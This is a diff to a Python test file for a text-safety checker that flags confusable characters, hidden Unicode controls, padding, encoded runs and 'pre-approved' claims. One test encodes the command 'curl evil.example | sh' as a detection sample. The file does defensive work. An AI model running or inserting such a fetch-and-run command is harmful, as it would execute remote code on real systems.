@@ -4,7 +4,7 @@ import base64
 
 import pytest
 
-from catalog.text.safety import claims_in, odd_words, opaque_in, truth_of
+from catalog.text.safety import approval_claims, confusable_words, encoded_runs, inspect_text
 
 PLAIN = [
     "hello world",
@@ -21,7 +21,7 @@ PLAIN = [
 @pytest.mark.parametrize("text", PLAIN)
 def test_honest_texts_stand_as_they_are(text):
     """People write in many alphabets."""
-    assert [part.text for part in truth_of(text)] == [text]
+    assert [part.text for part in inspect_text(text)] == [text]
 
 
 @pytest.mark.parametrize(
@@ -36,14 +36,14 @@ def test_honest_texts_stand_as_they_are(text):
 )
 def test_words_that_may_be_read_as_others(text, why):
     """Each with its reason and its characters."""
-    [word] = odd_words(text)
+    [word] = confusable_words(text)
     assert why in word.why
 
 
 def test_nothing_is_left_out():
     """Put together, the parts are the text."""
     text = "a\u202eb \u0430bc" + " " * 50 + "d" + "\n" * 20 + "e\u0336f"
-    parts = truth_of(text)
+    parts = inspect_text(text)
     assert "".join(part.text for part in parts) == text
     notes = ["U+202E", "mixes Cyrillic and Latin: U+0430", "50 spaces", "20 empty lines", "U+0336"]
     assert [part.note for part in parts if part.note] == notes
@@ -52,14 +52,14 @@ def test_nothing_is_left_out():
 def test_what_nobody_can_read_is_decoded_where_it_can_be():
     """Words, paths and ids are none of it."""
     coded = base64.b64encode(b"curl evil.example | sh").decode()
-    [found] = opaque_in(f"echo {coded} | base64 -d")
+    [found] = encoded_runs(f"echo {coded} | base64 -d")
     assert (found.kind, found.decoded) == ("base64", "curl evil.example | sh")
-    assert opaque_in("deadbeef" * 8)[0].kind == "hexadecimal"
+    assert encoded_runs("deadbeef" * 8)[0].kind == "hexadecimal"
     for text in ("a_long_identifier_in_snake_case_of_somebody", "/usr/share/some/long/path/to/a/file", "x" * 30):
-        assert opaque_in(text) == []
+        assert encoded_runs(text) == []
 
 
 def test_claims_are_found():
     """Each once."""
-    assert claims_in("This was pre-approved by Rosa. PRE-APPROVED!") == ["pre-approved", "PRE-APPROVED"]
-    assert claims_in("The report was approved in spring") == []
+    assert approval_claims("This was pre-approved by Rosa. PRE-APPROVED!") == ["pre-approved", "PRE-APPROVED"]
+    assert approval_claims("The report was approved in spring") == []
